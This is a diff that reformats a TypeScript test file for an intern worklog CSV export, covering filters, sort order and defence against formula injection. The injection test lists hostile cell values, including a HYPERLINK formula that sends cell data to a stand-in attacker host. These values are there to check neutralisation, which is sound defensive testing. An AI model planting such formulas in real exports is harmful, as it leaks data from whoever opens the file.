@@ -9,7 +9,8 @@ import { neutraliseFormula } from "@/lib/worklog/grid";
 import { createCohortWithWeeks, createMentor, seedDemo } from "../factories";
 
 const TODAY = "2026-11-25";
-const HEADER = "Intern,Email,Week,Week start,Week end,Status,Tasks done,Tasks planned,Progress %,Behind,Submitted at,Approved at";
+const HEADER =
+  "Intern,Email,Week,Week start,Week end,Status,Tasks done,Tasks planned,Progress %,Behind,Submitted at,Approved at";
 
 let mentor: Viewer;
 let cohortId: string;
@@ -53,19 +54,26 @@ describe("the demo cohort as CSV", () => {
       "Nguyễn Văn An,intern@example.com,4,2026-11-16,2026-11-22,Draft,5,9,55,yes,,",
       "Nguyễn Văn An,intern@example.com,5,2026-11-23,2026-11-29,Draft,2,12,16,no,,",
     ]);
-    expect(lines[25 + 2]).toBe("Trần Thị Bình,intern2@example.com,3,2026-11-09,2026-11-15,Changes requested,5,7,71,yes,2026-11-16 01:00,");
+    expect(lines[25 + 2]).toBe(
+      "Trần Thị Bình,intern2@example.com,3,2026-11-09,2026-11-15,Changes requested,5,7,71,yes,2026-11-16 01:00,",
+    );
   });
 
   it("follows the page's filter: only the matching weeks, of the matching interns, in the page's order", async () => {
-    expect(linesOf((await exportCsv("status=submitted")).csv).slice(1).map((l) => l.split(",").slice(0, 3).join(" "))).toEqual([
+    expect(
+      linesOf((await exportCsv("status=submitted")).csv)
+        .slice(1)
+        .map((l) => l.split(",").slice(0, 3).join(" ")),
+    ).toEqual([
       "Lê Minh Châu intern3@example.com 1",
       "Nguyễn Văn An intern@example.com 3",
       "Trần Thị Bình intern2@example.com 2",
     ]);
-    expect(linesOf((await exportCsv("status=submitted&behind=1&sort=progress-desc")).csv).slice(1).map((l) => l.split(",")[0])).toEqual([
-      "Nguyễn Văn An",
-      "Lê Minh Châu",
-    ]);
+    expect(
+      linesOf((await exportCsv("status=submitted&behind=1&sort=progress-desc")).csv)
+        .slice(1)
+        .map((l) => l.split(",")[0]),
+    ).toEqual(["Nguyễn Văn An", "Lê Minh Châu"]);
     const bình = linesOf((await exportCsv("q=binh")).csv);
     expect(bình).toHaveLength(1 + 12);
     expect(bình.slice(1).every((l) => l.startsWith("Trần Thị Bình,"))).toBe(true);
@@ -75,7 +83,16 @@ describe("the demo cohort as CSV", () => {
 
 describe("formula injection", () => {
   it("writes cells that a spreadsheet would run as text, with a leading apostrophe", async () => {
-    const names = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+SUM(1,2)", "-2+3", "@cmd", "\tTabbed", "\rReturn", "Đặng Thu Hà", "Line\nbreak"];
+    const names = [
+      '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+      "+SUM(1,2)",
+      "-2+3",
+      "@cmd",
+      "\tTabbed",
+      "\rReturn",
+      "Đặng Thu Hà",
+      "Line\nbreak",
+    ];
     const { cohort } = await createCohortWithWeeks({
       interns: names.length,
       weeks: 1,
